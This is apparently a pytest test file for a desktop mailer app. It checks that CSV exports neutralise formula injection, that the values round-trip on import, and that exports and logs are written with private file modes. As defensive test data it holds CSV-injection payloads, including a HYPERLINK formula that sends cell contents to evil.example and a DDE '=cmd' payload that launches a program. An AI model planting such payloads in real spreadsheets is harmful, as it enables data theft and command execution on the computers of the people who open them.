"""Every CSV the program writes neutralises formulas (OWASP CSV injection), imports back
unchanged, and is private (0600), as are logs, their folder and personal-data exports."""

from __future__ import annotations

import ast
import csv
import logging
import os
import stat
from pathlib import Path

import pytest

from mailer_desktop.domain.spreadsheet import neutralise, restore
from mailer_desktop.logging_setup import PrivateRotatingFileHandler, configure
from mailer_desktop.services import importing
from mailer_desktop.services.app import open_app
from mailer_desktop.services.contacts import people as contacts
from mailer_desktop.services.importing import import_file

PACKAGE = Path(__file__).resolve().parents[2] / "mailer_desktop"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+SUM(1+1)", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0",
           "\tTAB", "'=quoted already", "''+two"]
posix_only = pytest.mark.skipif(os.name != "posix", reason="file modes exist only on POSIX systems")


@pytest.fixture(autouse=True)
def _usual_umask():
    old = os.umask(0o022)  # what most desktops use: new files 0644, folders 0755
    yield
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_neutralise_and_restore_are_inverse():
    for value in [*HOSTILE, "plain", "", "O'Brien", "'plain", "a=b"]:
        written = neutralise(value)
        assert restore(written) == value
        if value.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert written.startswith("'")
        else:
            assert written == value


def test_nothing_but_the_one_writer_writes_spreadsheets():
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path == PACKAGE / "domain" / "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "Workbook") \
                    and isinstance(node.value, ast.Name) and node.value.id in ("csv", "openpyxl", "xlsxwriter"):
                offenders.append(f"{path.relative_to(PACKAGE)}: {node.value.id}.{node.attr}")
    assert offenders == []


@posix_only
def test_contacts_export_neutralises_round_trips_and_is_private(app, tmp_path, home, keyring_backend):
    # (a leading tab is neutralised too, but an import trims whitespace, so it is not in the round trip)
    fields = {f"f{i}": value for i, value in enumerate(HOSTILE) if not value.startswith("\t")}
    contacts.add_contact(app, "anna@example.com", HOSTILE[0], fields)
    contacts.add_contact(app, "-bob@example.com", "-Bob", {"note": "@home"})
    out = tmp_path / "export.csv"
    assert importing.export_contacts_csv(app, out) == 2
    assert _mode(out) == 0o600
    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
    header, cells = rows[0], [c for row in rows[1:] for c in row]
    assert header[:2] == ["email", "name"]
    for cell in cells:  # no cell a spreadsheet would run
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + HOSTILE[0] in cells and "'-bob@example.com" in cells and "'''+two" in cells

    other = open_app(tmp_path / "other", keyring_backend=keyring_backend, log_to_file=False)
    try:
        report = import_file(other, out)
        assert report.added == 2 and report.invalid == 0
        anna = contacts.find_by_email(other, "anna@example.com")
        assert anna.name == HOSTILE[0] and anna.fields == fields
        bob = contacts.find_by_email(other, "-bob@example.com")
        assert bob.name == "-Bob" and bob.fields == {"note": "@home"}
    finally:
        other.close()


@posix_only
def test_cli_exports_are_private(cli, tmp_path):
    assert cli("contacts", "add", "anna@example.com", "--name", "=1+1")[0] == 0
    out = tmp_path / "anna.json"
    code, _, err = cli("contacts", "export", "anna@example.com", "--out", str(out))
    assert code == 0, err
    assert _mode(out) == 0o600
    csv_out = tmp_path / "all.csv"
    assert cli("contacts", "export-csv", str(csv_out))[0] == 0
    assert _mode(csv_out) == 0o600 and "'=1+1" in csv_out.read_text(encoding="utf-8-sig")
    src = tmp_path / "in.csv"
    src.write_text("email,name\n=cmd|' /C calc'!A0,x\nsales@example.com,=2+2\n", encoding="utf-8")
    report_csv = tmp_path / "report.csv"
    assert cli("contacts", "import", str(src), "--report-csv", str(report_csv))[0] == 0
    assert _mode(report_csv) == 0o600
    text = report_csv.read_text(encoding="utf-8-sig")
    assert "'=cmd" in text and "\n=" not in text and ",=" not in text


@posix_only
def test_every_log_file_and_the_log_folder_are_private(tmp_path):
    folder = tmp_path / "logs"
    path = configure(folder)
    handler = next(h for h in logging.getLogger().handlers
                   if isinstance(h, PrivateRotatingFileHandler) and Path(h.baseFilename) == path)
    try:
        logging.getLogger("mailer_desktop.test").warning("first file")
        handler.doRollover()
        logging.getLogger("mailer_desktop.test").warning("second file")
        handler.doRollover()
        handler.flush()
        files = sorted(folder.iterdir())
        assert [f.name for f in files] == ["mailer-desktop.log", "mailer-desktop.log.1", "mailer-desktop.log.2"]
        assert {f.name: _mode(f) for f in files} == {f.name: 0o600 for f in files}
        assert _mode(folder) == 0o700
    finally:
        logging.getLogger().removeHandler(handler)
        handler.close()
